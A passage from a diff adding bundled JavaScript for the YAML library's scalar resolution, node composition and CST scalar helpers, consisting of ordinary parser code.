+      for (let i3 = contentStart; i3 < chompStart; ++i3) {
+        let [indent, content] = lines[i3];
+        offset += indent.length + content.length + 1;
+        const crlf = content[content.length - 1] === "\r";
+        if (crlf)
+          content = content.slice(0, -1);
+        if (content && indent.length < trimIndent) {
+          const src = header.indent ? "explicit indentation indicator" : "first line";
+          const message4 = `Block scalar lines must not be less indented than their ${src}`;
+          onError(offset - content.length - (crlf ? 2 : 1), "BAD_INDENT", message4);
+          indent = "";
+        }
+        if (type === Scalar.Scalar.BLOCK_LITERAL) {
+          value += sep5 + indent.slice(trimIndent) + content;
+          sep5 = "\n";
+        } else if (indent.length > trimIndent || content[0] === "	") {
+          if (sep5 === " ")
+            sep5 = "\n";
+          else if (!prevMoreIndented && sep5 === "\n")
+            sep5 = "\n\n";
+          value += sep5 + indent.slice(trimIndent) + content;
+          sep5 = "\n";
+          prevMoreIndented = true;
+        } else if (content === "") {
+          if (sep5 === "\n")
+            value += "\n";
+          else
+            sep5 = "\n";
+        } else {
+          value += sep5 + content;
+          sep5 = " ";
+          prevMoreIndented = false;
+        }
+      }
+      switch (header.chomp) {
+        case "-":
+          break;
+        case "+":
+          for (let i3 = chompStart; i3 < lines.length; ++i3)
+            value += "\n" + lines[i3][0].slice(trimIndent);
+          if (value[value.length - 1] !== "\n")
+            value += "\n";
+          break;
+        default:
+          value += "\n";
+      }
+      const end = start2 + header.length + scalar.source.length;
+      return { value, type, comment: header.comment, range: [start2, end, end] };
+    }
+    function parseBlockScalarHeader({ offset, props }, strict, onError) {
+      if (props[0].type !== "block-scalar-header") {
+        onError(props[0], "IMPOSSIBLE", "Block scalar header not found");
+        return null;
+      }
+      const { source } = props[0];
+      const mode = source[0];
+      let indent = 0;
+      let chomp = "";
+      let error2 = -1;
+      for (let i3 = 1; i3 < source.length; ++i3) {
+        const ch = source[i3];
+        if (!chomp && (ch === "-" || ch === "+"))
+          chomp = ch;
+        else {
+          const n2 = Number(ch);
+          if (!indent && n2)
+            indent = n2;
+          else if (error2 === -1)
+            error2 = offset + i3;
+        }
+      }
+      if (error2 !== -1)
+        onError(error2, "UNEXPECTED_TOKEN", `Block scalar header includes extra characters: ${source}`);
+      let hasSpace = false;
+      let comment = "";
+      let length = source.length;
+      for (let i3 = 1; i3 < props.length; ++i3) {
+        const token = props[i3];
+        switch (token.type) {
+          case "space":
+            hasSpace = true;
+          // fallthrough
+          case "newline":
+            length += token.source.length;
+            break;
+          case "comment":
+            if (strict && !hasSpace) {
+              const message4 = "Comments must be separated from other tokens by white space characters";
+              onError(token, "MISSING_CHAR", message4);
+            }
+            length += token.source.length;
+            comment = token.source.substring(1);
+            break;
+          case "error":
+            onError(token, "UNEXPECTED_TOKEN", token.message);
+            length += token.source.length;
+            break;
+          /* istanbul ignore next should not happen */
+          default: {
+            const message4 = `Unexpected token in block scalar header: ${token.type}`;
+            onError(token, "UNEXPECTED_TOKEN", message4);
+            const ts = token.source;
+            if (ts && typeof ts === "string")
+              length += ts.length;
+          }
+        }
+      }
+      return { mode, indent, chomp, comment, length };
+    }
+    function splitLines2(source) {
+      const split = source.split(/\n( *)/);
+      const first = split[0];
+      const m = first.match(/^( *)/);
+      const line0 = m?.[1] ? [m[1], first.slice(m[1].length)] : ["", first];
+      const lines = [line0];
+      for (let i3 = 1; i3 < split.length; i3 += 2)
+        lines.push([split[i3], split[i3 + 1]]);
+      return lines;
+    }
+    exports.resolveBlockScalar = resolveBlockScalar;
+  }
+});
+
+// node_modules/yaml/dist/compose/resolve-flow-scalar.js
+var require_resolve_flow_scalar = __commonJS({
+  "node_modules/yaml/dist/compose/resolve-flow-scalar.js"(exports) {
+    "use strict";
+    var Scalar = require_Scalar();
+    var resolveEnd = require_resolve_end();
+    function resolveFlowScalar(scalar, strict, onError) {
+      const { offset, type, source, end } = scalar;
+      let _type;
+      let value;
+      const _onError = (rel, code, msg) => onError(offset + rel, code, msg);
+      switch (type) {
+        case "scalar":
+          _type = Scalar.Scalar.PLAIN;
+          value = plainValue(source, _onError);
+          break;
+        case "single-quoted-scalar":
+          _type = Scalar.Scalar.QUOTE_SINGLE;
+          value = singleQuotedValue(source, _onError);
+          break;
+        case "double-quoted-scalar":
+          _type = Scalar.Scalar.QUOTE_DOUBLE;
+          value = doubleQuotedValue(source, _onError);
+          break;
+        /* istanbul ignore next should not happen */
+        default:
+          onError(scalar, "UNEXPECTED_TOKEN", `Expected a flow scalar value, but found: ${type}`);
+          return {
+            value: "",
+            type: null,
+            comment: "",
+            range: [offset, offset + source.length, offset + source.length]
+          };
+      }
+      const valueEnd = offset + source.length;
+      const re3 = resolveEnd.resolveEnd(end, valueEnd, strict, onError);
+      return {
+        value,
+        type: _type,
+        comment: re3.comment,
+        range: [offset, valueEnd, re3.offset]
+      };
+    }
+    function plainValue(source, onError) {
+      let badChar = "";
+      switch (source[0]) {
+        /* istanbul ignore next should not happen */
+        case "	":
+          badChar = "a tab character";
+          break;
+        case ",":
+          badChar = "flow indicator character ,";
+          break;
+        case "%":
+          badChar = "directive indicator character %";
+          break;
+        case "|":
+        case ">": {
+          badChar = `block scalar indicator ${source[0]}`;
+          break;
+        }
+        case "@":
+        case "`": {
+          badChar = `reserved character ${source[0]}`;
+          break;
+        }
+      }
+      if (badChar)
+        onError(0, "BAD_SCALAR_START", `Plain value cannot start with ${badChar}`);
+      return unfoldLines(source);
+    }
+    function singleQuotedValue(source, onError) {
+      if (source[source.length - 1] !== "'" || source.length === 1)
+        onError(source.length, "MISSING_CHAR", "Missing closing 'quote");
+      return unfoldLines(source.slice(1, -1)).replace(/''/g, "'");
+    }
+    function unfoldLines(source) {
+      const line = /(.*?)\r?\n/sy;
+      let match = line.exec(source);
+      if (!match)
+        return source;
+      let trimEnd, trimBoth;
+      try {
+        trimEnd = new RegExp("(?<![ 	])[ 	]+$");
+        trimBoth = new RegExp("^[ 	]+|(?<![ 	])[ 	]+$", "g");
+      } catch {
+        trimEnd = /[ \t]+$/;
+        trimBoth = /^[ \t]+|[ \t]+$/g;
+      }
+      let res = match[1].replace(trimEnd, "");
+      let sep5 = " ";
+      let pos = line.lastIndex;
+      while (match = line.exec(source)) {
+        const lm = match[1].replace(trimBoth, "");
+        if (lm === "") {
+          if (sep5 === "\n")
+            res += sep5;
+          else
+            sep5 = "\n";
+        } else {
+          res += sep5 + lm;
+          sep5 = " ";
+        }
+        pos = line.lastIndex;
+      }
+      const last = /[ \t]*(.*)/sy;
+      last.lastIndex = pos;
+      match = last.exec(source);
+      return res + sep5 + (match?.[1] ?? "");
+    }
+    function doubleQuotedValue(source, onError) {
+      let res = "";
+      for (let i3 = 1; i3 < source.length - 1; ++i3) {
+        const ch = source[i3];
+        if (ch === "\r" && source[i3 + 1] === "\n")
+          continue;
+        if (ch === "\n") {
+          const { fold, offset } = foldNewline(source, i3);
+          res += fold;
+          i3 = offset;
+        } else if (ch === "\\") {
+          let next = source[++i3];
+          const cc = escapeCodes[next];
+          if (cc)
+            res += cc;
+          else if (next === "\n") {
+            next = source[i3 + 1];
+            while (next === " " || next === "	")
+              next = source[++i3 + 1];
+          } else if (next === "\r" && source[i3 + 1] === "\n") {
+            next = source[++i3 + 1];
+            while (next === " " || next === "	")
+              next = source[++i3 + 1];
+          } else if (next === "x" || next === "u" || next === "U") {
+            const length = next === "x" ? 2 : next === "u" ? 4 : 8;
+            res += parseCharCode(source, i3 + 1, length, onError);
+            i3 += length;
+          } else {
+            const raw = source.substr(i3 - 1, 2);
+            onError(i3 - 1, "BAD_DQ_ESCAPE", `Invalid escape sequence ${raw}`);
+            res += raw;
+          }
+        } else if (ch === " " || ch === "	") {
+          const wsStart = i3;
+          let next = source[i3 + 1];
+          while (next === " " || next === "	")
+            next = source[++i3 + 1];
+          if (next !== "\n" && !(next === "\r" && source[i3 + 2] === "\n"))
+            res += i3 > wsStart ? source.slice(wsStart, i3 + 1) : ch;
+        } else {
+          res += ch;
+        }
+      }
+      if (source[source.length - 1] !== '"' || source.length === 1)
+        onError(source.length, "MISSING_CHAR", 'Missing closing "quote');
+      return res;
+    }
+    function foldNewline(source, offset) {
+      let fold = "";
+      let ch = source[offset + 1];
+      while (ch === " " || ch === "	" || ch === "\n" || ch === "\r") {
+        if (ch === "\r" && source[offset + 2] !== "\n")
+          break;
+        if (ch === "\n")
+          fold += "\n";
+        offset += 1;
+        ch = source[offset + 1];
+      }
+      if (!fold)
+        fold = " ";
+      return { fold, offset };
+    }
+    var escapeCodes = {
+      "0": "\0",
+      // null character
+      a: "\x07",
+      // bell character
+      b: "\b",
+      // backspace
+      e: "\x1B",
+      // escape character
+      f: "\f",
+      // form feed
+      n: "\n",
+      // line feed
+      r: "\r",
+      // carriage return
+      t: "	",
+      // horizontal tab
+      v: "\v",
+      // vertical tab
+      N: "",
+      // Unicode next line
+      _: " ",
+      // Unicode non-breaking space
+      L: "\u2028",
+      // Unicode line separator
+      P: "\u2029",
+      // Unicode paragraph separator
+      " ": " ",
+      '"': '"',
+      "/": "/",
+      "\\": "\\",
+      "	": "	"
+    };
+    function parseCharCode(source, offset, length, onError) {
+      const cc = source.substr(offset, length);
+      const ok = cc.length === length && /^[0-9a-fA-F]+$/.test(cc);
+      const code = ok ? parseInt(cc, 16) : NaN;
+      try {
+        return String.fromCodePoint(code);
+      } catch {
+        const raw = source.substr(offset - 2, length + 2);
+        onError(offset - 2, "BAD_DQ_ESCAPE", `Invalid escape sequence ${raw}`);
+        return raw;
+      }
+    }
+    exports.resolveFlowScalar = resolveFlowScalar;
+  }
+});
+
+// node_modules/yaml/dist/compose/compose-scalar.js
+var require_compose_scalar = __commonJS({
+  "node_modules/yaml/dist/compose/compose-scalar.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    var Scalar = require_Scalar();
+    var resolveBlockScalar = require_resolve_block_scalar();
+    var resolveFlowScalar = require_resolve_flow_scalar();
+    function composeScalar(ctx, token, tagToken, onError) {
+      const { value, type, comment, range: range2 } = token.type === "block-scalar" ? resolveBlockScalar.resolveBlockScalar(ctx, token, onError) : resolveFlowScalar.resolveFlowScalar(token, ctx.options.strict, onError);
+      const tagName = tagToken ? ctx.directives.tagName(tagToken.source, (msg) => onError(tagToken, "TAG_RESOLVE_FAILED", msg)) : null;
+      let tag;
+      if (ctx.options.stringKeys && ctx.atKey) {
+        tag = ctx.schema[identity3.SCALAR];
+      } else if (tagName)
+        tag = findScalarTagByName(ctx.schema, value, tagName, tagToken, onError);
+      else if (token.type === "scalar")
+        tag = findScalarTagByTest(ctx, value, token, onError);
+      else
+        tag = ctx.schema[identity3.SCALAR];
+      let scalar;
+      try {
+        const res = tag.resolve(value, (msg) => onError(tagToken ?? token, "TAG_RESOLVE_FAILED", msg), ctx.options);
+        scalar = identity3.isScalar(res) ? res : new Scalar.Scalar(res);
+      } catch (error2) {
+        const msg = error2 instanceof Error ? error2.message : String(error2);
+        onError(tagToken ?? token, "TAG_RESOLVE_FAILED", msg);
+        scalar = new Scalar.Scalar(value);
+      }
+      scalar.range = range2;
+      scalar.source = value;
+      if (type)
+        scalar.type = type;
+      if (tagName)
+        scalar.tag = tagName;
+      if (tag.format)
+        scalar.format = tag.format;
+      if (comment)
+        scalar.comment = comment;
+      return scalar;
+    }
+    function findScalarTagByName(schema, value, tagName, tagToken, onError) {
+      if (tagName === "!")
+        return schema[identity3.SCALAR];
+      const matchWithTest = [];
+      for (const tag of schema.tags) {
+        if (!tag.collection && tag.tag === tagName) {
+          if (tag.default && tag.test)
+            matchWithTest.push(tag);
+          else
+            return tag;
+        }
+      }
+      for (const tag of matchWithTest)
+        if (tag.test?.test(value))
+          return tag;
+      const kt = schema.knownTags[tagName];
+      if (kt && !kt.collection) {
+        schema.tags.push(Object.assign({}, kt, { default: false, test: void 0 }));
+        return kt;
+      }
+      onError(tagToken, "TAG_RESOLVE_FAILED", `Unresolved tag: ${tagName}`, tagName !== "tag:yaml.org,2002:str");
+      return schema[identity3.SCALAR];
+    }
+    function findScalarTagByTest({ atKey, directives, schema }, value, token, onError) {
+      const tag = schema.tags.find((tag2) => (tag2.default === true || atKey && tag2.default === "key") && tag2.test?.test(value)) || schema[identity3.SCALAR];
+      if (schema.compat) {
+        const compat = schema.compat.find((tag2) => tag2.default && tag2.test?.test(value)) ?? schema[identity3.SCALAR];
+        if (tag.tag !== compat.tag) {
+          const ts = directives.tagString(tag.tag);
+          const cs = directives.tagString(compat.tag);
+          const msg = `Value may be parsed as either ${ts} or ${cs}`;
+          onError(token, "TAG_RESOLVE_FAILED", msg, true);
+        }
+      }
+      return tag;
+    }
+    exports.composeScalar = composeScalar;
+  }
+});
+
+// node_modules/yaml/dist/compose/util-empty-scalar-position.js
+var require_util_empty_scalar_position = __commonJS({
+  "node_modules/yaml/dist/compose/util-empty-scalar-position.js"(exports) {
+    "use strict";
+    function emptyScalarPosition(offset, before, pos) {
+      if (before) {
+        pos ?? (pos = before.length);
+        for (let i3 = pos - 1; i3 >= 0; --i3) {
+          let st = before[i3];
+          switch (st.type) {
+            case "space":
+            case "comment":
+            case "newline":
+              offset -= st.source.length;
+              continue;
+          }
+          st = before[++i3];
+          while (st?.type === "space") {
+            offset += st.source.length;
+            st = before[++i3];
+          }
+          break;
+        }
+      }
+      return offset;
+    }
+    exports.emptyScalarPosition = emptyScalarPosition;
+  }
+});
+
+// node_modules/yaml/dist/compose/compose-node.js
+var require_compose_node = __commonJS({
+  "node_modules/yaml/dist/compose/compose-node.js"(exports) {
+    "use strict";
+    var Alias = require_Alias();
+    var identity3 = require_identity();
+    var composeCollection = require_compose_collection();
+    var composeScalar = require_compose_scalar();
+    var resolveEnd = require_resolve_end();
+    var utilEmptyScalarPosition = require_util_empty_scalar_position();
+    var CN = { composeNode, composeEmptyNode };
+    function composeNode(ctx, token, props, onError) {
+      const atKey = ctx.atKey;
+      const { spaceBefore, comment, anchor, tag } = props;
+      let node;
+      let isSrcToken = true;
+      switch (token.type) {
+        case "alias":
+          node = composeAlias(ctx, token, onError);
+          if (anchor || tag)
+            onError(token, "ALIAS_PROPS", "An alias node must not specify any properties");
+          break;
+        case "scalar":
+        case "single-quoted-scalar":
+        case "double-quoted-scalar":
+        case "block-scalar":
+          node = composeScalar.composeScalar(ctx, token, tag, onError);
+          if (anchor)
+            node.anchor = anchor.source.substring(1);
+          break;
+        case "block-map":
+        case "block-seq":
+        case "flow-collection":
+          try {
+            node = composeCollection.composeCollection(CN, ctx, token, props, onError);
+            if (anchor)
+              node.anchor = anchor.source.substring(1);
+          } catch (error2) {
+            const message4 = error2 instanceof Error ? error2.message : String(error2);
+            onError(token, "RESOURCE_EXHAUSTION", message4);
+          }
+          break;
+        default: {
+          const message4 = token.type === "error" ? token.message : `Unsupported token (type: ${token.type})`;
+          onError(token, "UNEXPECTED_TOKEN", message4);
+          isSrcToken = false;
+        }
+      }
+      node ?? (node = composeEmptyNode(ctx, token.offset, void 0, null, props, onError));
+      if (anchor && node.anchor === "")
+        onError(anchor, "BAD_ALIAS", "Anchor cannot be an empty string");
+      if (atKey && ctx.options.stringKeys && (!identity3.isScalar(node) || typeof node.value !== "string" || node.tag && node.tag !== "tag:yaml.org,2002:str")) {
+        const msg = "With stringKeys, all keys must be strings";
+        onError(tag ?? token, "NON_STRING_KEY", msg);
+      }
+      if (spaceBefore)
+        node.spaceBefore = true;
+      if (comment) {
+        if (token.type === "scalar" && token.source === "")
+          node.comment = comment;
+        else
+          node.commentBefore = comment;
+      }
+      if (ctx.options.keepSourceTokens && isSrcToken)
+        node.srcToken = token;
+      return node;
+    }
+    function composeEmptyNode(ctx, offset, before, pos, { spaceBefore, comment, anchor, tag, end }, onError) {
+      const token = {
+        type: "scalar",
+        offset: utilEmptyScalarPosition.emptyScalarPosition(offset, before, pos),
+        indent: -1,
+        source: ""
+      };
+      const node = composeScalar.composeScalar(ctx, token, tag, onError);
+      if (anchor) {
+        node.anchor = anchor.source.substring(1);
+        if (node.anchor === "")
+          onError(anchor, "BAD_ALIAS", "Anchor cannot be an empty string");
+      }
+      if (spaceBefore)
+        node.spaceBefore = true;
+      if (comment) {
+        node.comment = comment;
+        node.range[2] = end;
+      }
+      return node;
+    }
+    function composeAlias({ options }, { offset, source, end }, onError) {
+      const alias = new Alias.Alias(source.substring(1));
+      if (alias.source === "")
+        onError(offset, "BAD_ALIAS", "Alias cannot be an empty string");
+      if (alias.source.endsWith(":"))
+        onError(offset + source.length - 1, "BAD_ALIAS", "Alias ending in : is ambiguous", true);
+      const valueEnd = offset + source.length;
+      const re3 = resolveEnd.resolveEnd(end, valueEnd, options.strict, onError);
+      alias.range = [offset, valueEnd, re3.offset];
+      if (re3.comment)
+        alias.comment = re3.comment;
+      return alias;
+    }
+    exports.composeEmptyNode = composeEmptyNode;
+    exports.composeNode = composeNode;
+  }
+});
+
+// node_modules/yaml/dist/compose/compose-doc.js
+var require_compose_doc = __commonJS({
+  "node_modules/yaml/dist/compose/compose-doc.js"(exports) {
+    "use strict";
+    var Document = require_Document();
+    var composeNode = require_compose_node();
+    var resolveEnd = require_resolve_end();
+    var resolveProps = require_resolve_props();
+    function composeDoc(options, directives, { offset, start: start2, value, end }, onError) {
+      const opts = Object.assign({ _directives: directives }, options);
+      const doc = new Document.Document(void 0, opts);
+      const ctx = {
+        atKey: false,
+        atRoot: true,
+        directives: doc.directives,
+        options: doc.options,
+        schema: doc.schema
+      };
+      const props = resolveProps.resolveProps(start2, {
+        indicator: "doc-start",
+        next: value ?? end?.[0],
+        offset,
+        onError,
+        parentIndent: 0,
+        startOnNewline: true
+      });
+      if (props.found) {
+        doc.directives.docStart = true;
+        if (value && (value.type === "block-map" || value.type === "block-seq") && !props.hasNewline)
+          onError(props.end, "MISSING_CHAR", "Block collection cannot start on same line with directives-end marker");
+      }
+      doc.contents = value ? composeNode.composeNode(ctx, value, props, onError) : composeNode.composeEmptyNode(ctx, props.end, start2, null, props, onError);
+      const contentEnd = doc.contents.range[2];
+      const re3 = resolveEnd.resolveEnd(end, contentEnd, false, onError);
+      if (re3.comment)
+        doc.comment = re3.comment;
+      doc.range = [offset, contentEnd, re3.offset];
+      return doc;
+    }
+    exports.composeDoc = composeDoc;
+  }
+});
+
+// node_modules/yaml/dist/compose/composer.js
+var require_composer = __commonJS({
+  "node_modules/yaml/dist/compose/composer.js"(exports) {
+    "use strict";
+    var node_process = __require("process");
+    var directives = require_directives();
+    var Document = require_Document();
+    var errors = require_errors3();
+    var identity3 = require_identity();
+    var composeDoc = require_compose_doc();
+    var resolveEnd = require_resolve_end();
+    function getErrorPos(src) {
+      if (typeof src === "number")
+        return [src, src + 1];
+      if (Array.isArray(src))
+        return src.length === 2 ? src : [src[0], src[1]];
+      const { offset, source } = src;
+      return [offset, offset + (typeof source === "string" ? source.length : 1)];
+    }
+    function parsePrelude(prelude) {
+      let comment = "";
+      let atComment = false;
+      let afterEmptyLine = false;
+      for (let i3 = 0; i3 < prelude.length; ++i3) {
+        const source = prelude[i3];
+        switch (source[0]) {
+          case "#":
+            comment += (comment === "" ? "" : afterEmptyLine ? "\n\n" : "\n") + (source.substring(1) || " ");
+            atComment = true;
+            afterEmptyLine = false;
+            break;
+          case "%":
+            if (prelude[i3 + 1]?.[0] !== "#")
+              i3 += 1;
+            atComment = false;
+            break;
+          default:
+            if (!atComment)
+              afterEmptyLine = true;
+            atComment = false;
+        }
+      }
+      return { comment, afterEmptyLine };
+    }
+    var Composer = class {
+      constructor(options = {}) {
+        this.doc = null;
+        this.atDirectives = false;
+        this.prelude = [];
+        this.errors = [];
+        this.warnings = [];
+        this.onError = (source, code, message4, warning2) => {
+          const pos = getErrorPos(source);
+          if (warning2)
+            this.warnings.push(new errors.YAMLWarning(pos, code, message4));
+          else
+            this.errors.push(new errors.YAMLParseError(pos, code, message4));
+        };
+        this.directives = new directives.Directives({ version: options.version || "1.2" });
+        this.options = options;
+      }
+      decorate(doc, afterDoc) {
+        const { comment, afterEmptyLine } = parsePrelude(this.prelude);
+        if (comment) {
+          const dc = doc.contents;
+          if (afterDoc) {
+            doc.comment = doc.comment ? `${doc.comment}
+${comment}` : comment;
+          } else if (afterEmptyLine || doc.directives.docStart || !dc) {
+            doc.commentBefore = comment;
+          } else if (identity3.isCollection(dc) && !dc.flow && dc.items.length > 0) {
+            let it = dc.items[0];
+            if (identity3.isPair(it))
+              it = it.key;
+            const cb = it.commentBefore;
+            it.commentBefore = cb ? `${comment}
+${cb}` : comment;
+          } else {
+            const cb = dc.commentBefore;
+            dc.commentBefore = cb ? `${comment}
+${cb}` : comment;
+          }
+        }
+        if (afterDoc) {
+          for (let i3 = 0; i3 < this.errors.length; ++i3)
+            doc.errors.push(this.errors[i3]);
+          for (let i3 = 0; i3 < this.warnings.length; ++i3)
+            doc.warnings.push(this.warnings[i3]);
+        } else {
+          doc.errors = this.errors;
+          doc.warnings = this.warnings;
+        }
+        this.prelude = [];
+        this.errors = [];
+        this.warnings = [];
+      }
+      /**
+       * Current stream status information.
+       *
+       * Mostly useful at the end of input for an empty stream.
+       */
+      streamInfo() {
+        return {
+          comment: parsePrelude(this.prelude).comment,
+          directives: this.directives,
+          errors: this.errors,
+          warnings: this.warnings
+        };
+      }
+      /**
+       * Compose tokens into documents.
+       *
+       * @param forceDoc - If the stream contains no document, still emit a final document including any comments and directives that would be applied to a subsequent document.
+       * @param endOffset - Should be set if `forceDoc` is also set, to set the document range end and to indicate errors correctly.
+       */
+      *compose(tokens, forceDoc = false, endOffset = -1) {
+        for (const token of tokens)
+          yield* this.next(token);
+        yield* this.end(forceDoc, endOffset);
+      }
+      /** Advance the composer by one CST token. */
+      *next(token) {
+        if (node_process.env.LOG_STREAM)
+          console.dir(token, { depth: null });
+        switch (token.type) {
+          case "directive":
+            this.directives.add(token.source, (offset, message4, warning2) => {
+              const pos = getErrorPos(token);
+              pos[0] += offset;
+              this.onError(pos, "BAD_DIRECTIVE", message4, warning2);
+            });
+            this.prelude.push(token.source);
+            this.atDirectives = true;
+            break;
+          case "document": {
+            const doc = composeDoc.composeDoc(this.options, this.directives, token, this.onError);
+            if (this.atDirectives && !doc.directives.docStart)
+              this.onError(token, "MISSING_CHAR", "Missing directives-end/doc-start indicator line");
+            this.decorate(doc, false);
+            if (this.doc)
+              yield this.doc;
+            this.doc = doc;
+            this.atDirectives = false;
+            break;
+          }
+          case "byte-order-mark":
+          case "space":
+            break;
+          case "comment":
+          case "newline":
+            this.prelude.push(token.source);
+            break;
+          case "error": {
+            const msg = token.source ? `${token.message}: ${JSON.stringify(token.source)}` : token.message;
+            const error2 = new errors.YAMLParseError(getErrorPos(token), "UNEXPECTED_TOKEN", msg);
+            if (this.atDirectives || !this.doc)
+              this.errors.push(error2);
+            else
+              this.doc.errors.push(error2);
+            break;
+          }
+          case "doc-end": {
+            if (!this.doc) {
+              const msg = "Unexpected doc-end without preceding document";
+              this.errors.push(new errors.YAMLParseError(getErrorPos(token), "UNEXPECTED_TOKEN", msg));
+              break;
+            }
+            this.doc.directives.docEnd = true;
+            const end = resolveEnd.resolveEnd(token.end, token.offset + token.source.length, this.doc.options.strict, this.onError);
+            this.decorate(this.doc, true);
+            if (end.comment) {
+              const dc = this.doc.comment;
+              this.doc.comment = dc ? `${dc}
+${end.comment}` : end.comment;
+            }
+            this.doc.range[2] = end.offset;
+            break;
+          }
+          default:
+            this.errors.push(new errors.YAMLParseError(getErrorPos(token), "UNEXPECTED_TOKEN", `Unsupported token ${token.type}`));
+        }
+      }
+      /**
+       * Call at end of input to yield any remaining document.
+       *
+       * @param forceDoc - If the stream contains no document, still emit a final document including any comments and directives that would be applied to a subsequent document.
+       * @param endOffset - Should be set if `forceDoc` is also set, to set the document range end and to indicate errors correctly.
+       */
+      *end(forceDoc = false, endOffset = -1) {
+        if (this.doc) {
+          this.decorate(this.doc, true);
+          yield this.doc;
+          this.doc = null;
+        } else if (forceDoc) {
+          const opts = Object.assign({ _directives: this.directives }, this.options);
+          const doc = new Document.Document(void 0, opts);
+          if (this.atDirectives)
+            this.onError(endOffset, "MISSING_CHAR", "Missing directives-end indicator line");
+          doc.range = [0, endOffset, endOffset];
+          this.decorate(doc, false);
+          yield doc;
+        }
+      }
+    };
+    exports.Composer = Composer;
+  }
+});
+
+// node_modules/yaml/dist/parse/cst-scalar.js
+var require_cst_scalar = __commonJS({
+  "node_modules/yaml/dist/parse/cst-scalar.js"(exports) {
+    "use strict";
+    var resolveBlockScalar = require_resolve_block_scalar();
+    var resolveFlowScalar = require_resolve_flow_scalar();
+    var errors = require_errors3();
+    var stringifyString = require_stringifyString();
+    function resolveAsScalar(token, strict = true, onError) {
+      if (token) {
+        const _onError = (pos, code, message4) => {
+          const offset = typeof pos === "number" ? pos : Array.isArray(pos) ? pos[0] : pos.offset;
+          if (onError)
+            onError(offset, code, message4);
+          else
+            throw new errors.YAMLParseError([offset, offset + 1], code, message4);
+        };
+        switch (token.type) {
+          case "scalar":
+          case "single-quoted-scalar":
+          case "double-quoted-scalar":
+            return resolveFlowScalar.resolveFlowScalar(token, strict, _onError);
+          case "block-scalar":
+            return resolveBlockScalar.resolveBlockScalar({ options: { strict } }, token, _onError);
+        }
+      }
+      return null;
+    }
+    function createScalarToken(value, context) {
+      const { implicitKey = false, indent, inFlow = false, offset = -1, type = "PLAIN" } = context;
+      const source = stringifyString.stringifyString({ type, value }, {
+        implicitKey,
+        indent: indent > 0 ? " ".repeat(indent) : "",
+        inFlow,
+        options: { blockQuote: true, lineWidth: -1 }
+      });
+      const end = context.end ?? [
+        { type: "newline", offset: -1, indent, source: "\n" }
+      ];
+      switch (source[0]) {
+        case "|":
+        case ">": {
+          const he = source.indexOf("\n");
+          const head = source.substring(0, he);
+          const body2 = source.substring(he + 1) + "\n";
+          const props = [
+            { type: "block-scalar-header", offset, indent, source: head }
+          ];
+          if (!addEndtoBlockProps(props, end))
+            props.push({ type: "newline", offset: -1, indent, source: "\n" });
+          return { type: "block-scalar", offset, indent, props, source: body2 };
+        }
+        case '"':
+          return { type: "double-quoted-scalar", offset, indent, source, end };
+        case "'":
+          return { type: "single-quoted-scalar", offset, indent, source, end };
+        default:
+          return { type: "scalar", offset, indent, source, end };
+      }
+    }
+    function setScalarValue(token, value, context = {}) {
+      let { afterKey = false, implicitKey = false, inFlow = false, type } = context;
+      let indent = "indent" in token ? token.indent : null;
+      if (afterKey && typeof indent === "number")
+        indent += 2;
+      if (!type)
+        switch (token.type) {
+          case "single-quoted-scalar":
+            type = "QUOTE_SINGLE";
+            break;
+          case "double-quoted-scalar":
+            type = "QUOTE_DOUBLE";
+            break;
+          case "block-scalar": {
+            const header = token.props[0];
+            if (header.type !== "block-scalar-header")
+              throw new Error("Invalid block scalar header");
+            type = header.source[0] === ">" ? "BLOCK_FOLDED" : "BLOCK_LITERAL";
+            break;
+          }
+          default:
+            type = "PLAIN";
+        }
+      const source = stringifyString.stringifyString({ type, value }, {
+        implicitKey: implicitKey || indent === null,
+        indent: indent !== null && indent > 0 ? " ".repeat(indent) : "",
+        inFlow,
+        options: { blockQuote: true, lineWidth: -1 }
+      });
+      switch (source[0]) {
+        case "|":
+        case ">":
+          setBlockScalarValue(token, source);
+          break;
+        case '"':
+          setFlowScalarValue(token, source, "double-quoted-scalar");
+          break;
+        case "'":
+          setFlowScalarValue(token, source, "single-quoted-scalar");
+          break;
+        default:
+          setFlowScalarValue(token, source, "scalar");
+      }
+    }
+    function setBlockScalarValue(token, source) {
+      const he = source.indexOf("\n");
+      const head = source.substring(0, he);
+      const body2 = source.substring(he + 1) + "\n";
+      if (token.type === "block-scalar") {
+        const header = token.props[0];
+        if (header.type !== "block-scalar-header")
+          throw new Error("Invalid block scalar header");
+        header.source = head;
+        token.source = body2;
+      } else {
+        const { offset } = token;
+        const indent = "indent" in token ? token.indent : -1;
+        const props = [
+          { type: "block-scalar-header", offset, indent, source: head }
+        ];
+        if (!addEndtoBlockProps(props, "end" in token ? token.end : void 0))
+          props.push({ type: "newline", offset: -1, indent, source: "\n" });
+        for (const key of Object.keys(token))
+          if (key !== "type" && key !== "offset")
+            delete token[key];
+        Object.assign(token, { type: "block-scalar", indent, props, source: body2 });
+      }
+    }
+    function addEndtoBlockProps(props, end) {
+      if (end)
+        for (const st of end)
+          switch (st.type) {
+            case "space":
+            case "comment":
+              props.push(st);
+              break;
+            case "newline":
+              props.push(st);
+              return true;
+          }
+      return false;
+    }
+    function setFlowScalarValue(token, source, type) {
+      switch (token.type) {
+        case "scalar":
+        case "double-quoted-scalar":
+        case "single-quoted-scalar":
+          token.type = type;
+          token.source = source;
+          break;
+        case "block-scalar": {
+          const end = token.props.slice(1);
+          let oa = source.length;
+          if (token.props[0].type === "block-scalar-header")
+            oa -= token.props[0].source.length;
+          for (const tok of end)
+            tok.offset += oa;
+          delete token.props;
+          Object.assign(token, { type, source, end });
+          break;
+        }
+        case "block-map":
+        case "block-seq": {
+          const offset = token.offset + source.length;
+          const nl = { type: "newline", offset, indent: token.indent, source: "\n" };
+          delete token.items;
+          Object.assign(token, { type, source, end: [nl] });
+          break;
+        }
+        default: {
+          const indent = "indent" in token ? token.indent : -1;
+          const end = "end" in token && Array.isArray(token.end) ? token.end.filter((st) => st.type === "space" || st.type === "comment" || st.type === "newline") : [];
+          for (const key of Object.keys(token))
+            if (key !== "type" && key !== "offset")
+              delete token[key];
+          Object.assign(token, { type, indent, source, end });
+        }
+      }
+    }
+    exports.createScalarToken = createScalarToken;
+    exports.resolveAsScalar = resolveAsScalar;
+    exports.setScalarValue = setScalarValue;
+  }
+});
+
+// node_modules/yaml/dist/parse/cst-stringify.js
+var require_cst_stringify = __commonJS({
+  "node_modules/yaml/dist/parse/cst-stringify.js"(exports) {
+    "use strict";
+    var stringify = (cst) => "type" in cst ? stringifyToken(cst) : stringifyItem(cst);
